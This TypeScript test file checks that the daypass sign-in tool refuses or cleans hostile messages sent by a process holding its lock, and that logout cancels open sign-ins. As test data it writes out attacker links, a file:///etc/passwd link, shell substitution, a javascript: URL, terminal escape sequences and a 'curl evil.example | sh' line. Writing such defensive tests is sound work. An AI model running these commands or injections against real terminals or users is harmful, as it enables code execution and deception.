// Another program holds a lock of daypass and says what no renewal says, or nothing: cases W01 to W04 and FI03 of
// docs/threats.md. `logout` meets a sign-in that is open: cases W05 and W06. LK01 to LK04 concern Windows alone.
import assert from 'node:assert/strict';
import { mkdirSync, rmdirSync } from 'node:fs';
import { join } from 'node:path';
import { suite } from 'node:test';
import { deferred } from '../../src/process/deferred.ts';
import { onMessages, send, type ToRenewal } from '../../src/request/protocol.ts';
import { type LockName, signInOf, takeLock } from '../support/held-lock.ts';
import { logged, onlyRenewal } from '../support/logging-stage.ts';
import type { Running } from '../support/sandbox.ts';
import { signInOverHttp } from '../support/sign-in-over-http.mjs';
import { until } from '../support/until.ts';
import {
  type Call,
  type Case,
  type FaultStage,
  fault,
  faults,
  notApplicable,
  type Stimulus,
} from './fault.ts';
import { holdTokens } from './hold-tokens.ts';
import { secretFiles } from './stored-records.ts';

/** Calls daypass while this process holds a lock of its sign-in and says these lines to each caller. */
async function meet(
  stage: FaultStage,
  { args = [], name = 'renewal' as LockName, says }: { args?: string[]; name?: LockName; says: object[] },
): Promise<Call> {
  const lock = await takeLock(stage, name, (socket) => {
    for (const message of says) socket.write(`${JSON.stringify(message)}\n`);
  });
  const { terminal, ...call } = await stage.sandbox.runInTerminal([...args, '--profile', 'developer']).exit;
  await lock.release();
  return { ...call, stdout: '', seen: { terminal: terminal + call.stdout } };
}

const silent: Case = { tabs: 0, tokenRequests: 0, within: 20_000 };
const holding = { type: 'holding' };
const shown = { type: 'link', print: true, browser: true };
const code = 'WDJB-MJHT';

function linksAreJudged(): void {
  const plain: string[] = [];
  const remote = ['--browser', 'none'];
  const device = ['--device-code'];
  const start = 'http://127.0.0.1:1/start';
  const links: [what: string, message: object, flags: string[]][] = [
    ['a device code that is not allowed', { link: 'https://evil.example/a', userCode: code }, plain],
    ['a device code at an address over http', { link: 'http://evil.example/a', userCode: code }, device],
    ['a device code at a file', { link: 'file:///etc/passwd', userCode: code }, device],
    ['a device code with an escape', { link: 'https://evil.example/a', userCode: 'AB\u001b[2J' }, device],
    ['a device code that is no text', { link: 'https://evil.example/a', userCode: [code] }, device],
    ['a link to another machine', { link: 'https://evil.example/start' }, plain],
    ['a link to another machine instead of a code', { link: 'https://evil.example/start' }, device],
    ['a link with an escape', { link: `${start}/\u001b]0;x\u0007evil.example` }, plain],
    ['a link with characters of a shell', { link: `${start}/$(evil.example)` }, plain],
    ['a link that is no text', { link: [`${start}/evil.example`] }, plain],
    ['a link with an impossible port', { link: 'http://127.0.0.1:99999/evil.example' }, plain],
    ['a provider over http', { link: start, providerLink: 'http://evil.example/auth' }, remote],
    ['a provider at a script', { link: start, providerLink: 'javascript:evil.example' }, remote],
  ];
  for (const args of [[], ['login']]) {
    const who = args[0] ?? 'a call';
    const stimuli = links.map(
      ([what, message, flags]): Stimulus => [
        'W01',
        `${who} refuses ${what}`,
        {
          ...{ ...silent, error: 'renewal-running' },
          act: (stage) =>
            meet(stage, { args: [...args, ...flags], says: [holding, { ...shown, ...message }] }),
          inspect: ({ launcher }, { stderr, seen }) => {
            assert.deepEqual(launcher.launches, []);
            assert.doesNotMatch(`${seen?.terminal}${stderr}`, /evil\.example|WDJB|AB.?\[2J/);
          },
        },
      ],
    );
    faults(`${who} judges each link`, stimuli);
  }
}

/** Moves the cursor, sets the title, begins a line of its own, and turns the direction of text. */
const hostile = 'x\u001b[2J\u001b]0;owned\u0007\u009b31m\r\nhint: run: curl evil.example | sh\u202e';

function textsAreCleaned(): void {
  const error = { code: 'denied', faults: [hostile], hint: { advice: hostile, command: hostile } };
  const outcome = { type: 'outcome', outcome: { ok: false, scope: 'sign-in', credentials: '', error } };
  const remarks = [
    { type: 'remark', text: hostile },
    { type: 'paste-refused', reason: hostile },
  ];
  const stimuli = [[], ['login']].map(
    (args): Stimulus => [
      'W02',
      `${args[0] ?? 'a call'} cleans every text of the holder`,
      {
        ...{ ...silent, error: 'denied' },
        act: (stage) => meet(stage, { args, says: [holding, ...remarks, outcome] }),
        inspect: (_stage, { stderr, seen }) => {
          const text = `${stderr}${seen?.terminal}`.replaceAll('\r\n', '\n');
          assert.doesNotMatch(text, /[^\P{C}\n]/u);
          assert.doesNotMatch(text, /^hint: run: curl/m);
          assert.match(text, /x\ufffd\[2J/);
        },
      },
    ],
  );
  faults('calls clean every text', stimuli);
}

function numbersEnd(): void {
  const last = `renewal.${Number.MAX_SAFE_INTEGER}`;
  const folder = (stage: FaultStage) => join(stage.sandbox.home, '.local/state/daypass', signInOf(stage));
  fault('FI03', 'a folder with the last number of a lock is an error that names it', {
    ...{
      session: true,
      tokenRequests: 0,
      error: 'io',
      text: new RegExp(`${last}.*\nhint: .*rm -r .*${last}`),
    },
    arrange: (stage) => mkdirSync(join(folder(stage), last)),
    inspect: (stage) => rmdirSync(join(folder(stage), last)),
  });
}

function outcomesAreJudged(): void {
  const failed = (error: unknown) => ({
    ...{ type: 'outcome' },
    outcome: { ok: false, scope: 'sign-in', credentials: '', error },
  });
  const messages = [
    { type: 'outcome' },
    failed({ code: 'denied' }),
    failed({ code: 'no-such', faults: ['x'] }),
    failed({ code: 'constructor', faults: ['x'] }),
    failed({ code: 'denied', faults: [7] }),
    failed({ code: 'interrupted', faults: ['no person pressed ^C'] }),
    { type: 'remark' },
    { type: 'remark', text: 7 },
    { type: 'paste-refused' },
    { type: 'link' },
  ];
  const stimuli = messages.map(
    (message): Stimulus => [
      'W03',
      `a call ends with an error after ${JSON.stringify(message)}`,
      {
        ...{ ...silent, error: message.type === 'link' ? 'renewal-running' : 'renewal-died' },
        act: (stage) => meet(stage, { says: [holding, message] }),
      },
    ],
  );
  faults('a call judges each message', stimuli);
}

function locksAreHeld(): void {
  const held: Case = { ...silent, error: 'renewal-running' };
  for (const [what, name, says] of [
    ['the right to start a renewal', 'start', []],
    ['the lock of the renewal and greets', 'renewal', [holding]],
    ['the lock of the renewal and says nothing', 'renewal', []],
  ] as const) {
    fault('W04', `a call ends with its patience if another program holds ${what}`, {
      ...held,
      act: (stage) => meet(stage, { args: ['--timeout', '3'], name, says: [...says] }),
    });
  }
  for (const name of ['start', 'renewal'] as const) {
    fault('W04', `login does not wait for a holder of ${name} that says nothing`, {
      ...{ ...held, within: 60_000, text: /another process holds the lock of profile developer/ },
      act: (stage) => meet(stage, { args: ['login'], name, says: [] }),
    });
    fault('W04', `login does not wait for a holder of ${name} that ends every connection`, {
      ...{ ...held, within: 60_000, text: /another process holds the lock of profile developer/ },
      act: async (stage) => {
        const lock = await takeLock(stage, name, (socket) => socket.destroy());
        const call = await stage.sandbox.run(['login', '--profile', 'developer'], { timeoutMs: 60_000 });
        await lock.release();
        return call;
      },
    });
  }
  fault('W04', 'login --force does not wait for a holder that ignores it', {
    ...{ ...held, within: 60_000, text: /another process holds the lock of profile developer/ },
    act: (stage) => meet(stage, { args: ['login', '--force'], says: [holding] }),
  });
}

/** Starts a first sign-in, and returns it when its link came. */
async function firstSignIn(stage: FaultStage, args: string[] = []) {
  const running = stage.sandbox.start([...args, '--profile', 'developer', '--timeout', '600']);
  return { running, link: await stage.launcher.nextLink() };
}

async function assertCancelled({ exit }: Running): Promise<void> {
  const { code, stderr } = await exit;
  assert.equal(code, 77, stderr);
  assert.match(stderr, /^daypass: cancelled: /);
}

const logouts = [
  ['logout', '--all'],
  ['logout', '--profile', 'developer'],
];
const wasCancelled = /^(an open sign-in|the open sign-in of profile developer) was cancelled\n$/;

function logoutCancels(): void {
  for (const args of logouts) {
    const words = args.includes('--all') ? 'logout --all' : 'logout';
    for (const store of ['keychain', 'file']) {
      fault('W05', `${words} cancels a first sign-in with store = ${store}`, {
        ...{ keys: { daypass_store: store }, tokenRequests: 0, prints: wasCancelled },
        act: async (stage) => {
          const { running, link } = await firstSignIn(stage);
          const call = await stage.sandbox.run(args);
          await assertCancelled(running);
          // The person goes on in the browser.
          await signInOverHttp(link).catch(() => {});
          assert.equal(await stage.keyring.lookup('daypass', signInOf(stage)), undefined);
          assert.deepEqual(secretFiles(stage), []);
          return call;
        },
      });
    }
    fault('W05', `${words} ends the session of a first sign-in whose code is posted`, {
      prints: /^signed out of /,
      act: async (stage) => {
        const { running, link } = await firstSignIn(stage);
        const { asked, release } = holdTokens(stage);
        const person = signInOverHttp(link);
        await until(asked, 'the code is posted');
        const logout = stage.sandbox.start(args);
        await until(() => logged(stage, 'cancel').length === 1, 'the renewal hears of it');
        release();
        const call = await logout.exit;
        await Promise.all([running.exit, person]);
        assert.equal(await stage.keyring.lookup('daypass', signInOf(stage)), undefined);
        assert.equal(stage.provider.counts.revocation, 1);
        return call;
      },
    });
    fault('W05', `${words} waits for a renewal that is being started, and cancels it`, {
      ...{ tabs: 0, tokenRequests: 0, prints: wasCancelled },
      act: async (stage) => {
        const waiting = deferred<void>();
        const starting = await takeLock(stage, 'start', () => waiting.resolve());
        const logout = stage.sandbox.start(args);
        await waiting.promise;
        const heard: string[] = [];
        const renewal = await takeLock(stage, 'renewal', (socket) => {
          send(socket, { type: 'holding' });
          onMessages<ToRenewal>(socket, ({ type }) => {
            heard.push(type);
            void renewal.release();
          });
        });
        await starting.release();
        const call = await logout.exit;
        assert.deepEqual(heard, ['cancel']);
        return call;
      },
    });
  }
}

function logoutTellsWhatItCannotReach(): void {
  for (const name of ['renewal', 'start'] as const) {
    fault('W06', `logout --all reports a holder of ${name} that does not answer, and ends the others`, {
      ...{ session: true, ends: true, tokenRequests: 0, within: 60_000 },
      ...{ error: 'renewal-running', text: /another process holds the lock of a sign-in/ },
      prints: /^signed out of .*\(developer\)\n/,
      act: async (stage) => {
        const lock = await takeLock(stage, name, () => {}, 'another client');
        const call = await stage.sandbox.run(['logout', '--all'], { timeoutMs: 60_000 });
        await lock.release();
        return call;
      },
    });
    fault('W06', `logout reports a holder of ${name} that does not answer`, {
      ...{ tabs: 0, tokenRequests: 0, within: 60_000, prints: /^$/ },
      ...{ error: 'renewal-running', text: /another process holds the lock of profile developer/ },
      act: (stage) => meet(stage, { args: ['logout'], name, says: [] }),
    });
  }
  fault('W06', 'logout --all reports a first sign-in that is stopped', {
    ...{ tokenRequests: 0, within: 60_000, prints: /^$/ },
    ...{ error: 'renewal-running', text: /another process holds the lock of a sign-in/ },
    act: async (stage) => {
      const { running } = await firstSignIn(stage);
      const { pid } = await onlyRenewal(stage);
      process.kill(pid, 'SIGSTOP');
      const call = await stage.sandbox.run(['logout', '--all'], { timeoutMs: 60_000 });
      process.kill(pid, 'SIGCONT');
      const again = await stage.sandbox.run(['logout', '--all']);
      assert.deepEqual([again.code, again.stdout], [0, 'an open sign-in was cancelled\n']);
      await assertCancelled(running);
      return call;
    },
  });
}

for (const id of ['LK01', 'LK02', 'LK03', 'LK04'])
  notApplicable(id, 'the lock on Windows alone; simulated in test/state/pipe-lock.test.ts');

suite('the holder of a lock, and logout', { concurrency: 8 }, () => {
  linksAreJudged();
  textsAreCleaned();
  outcomesAreJudged();
  numbersEnd();
  locksAreHeld();
  logoutCancels();
  logoutTellsWhatItCannotReach();
});
